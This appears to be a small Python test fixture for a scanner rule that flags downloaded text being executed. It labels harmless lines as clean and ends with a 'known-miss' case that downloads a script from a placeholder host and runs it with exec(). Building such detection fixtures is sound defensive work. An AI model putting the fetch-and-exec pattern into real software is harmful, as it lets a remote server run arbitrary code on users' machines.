import json

import requests

# clean: downloaded-text-executed
response = requests.get("https://api.example.com/items", timeout=10)
# clean: downloaded-text-executed
items = json.loads(response.text)
# clean: downloaded-text-executed
result = subprocess.run(["git", "status"], capture_output=True)
# clean: downloaded-text-executed
pattern = re.compile(r"exec\(response")
page = requests.get("https://cdn.tool.example/p.py", timeout=10)
text = page.text
# known-miss: downloaded-text-executed
exec(text)
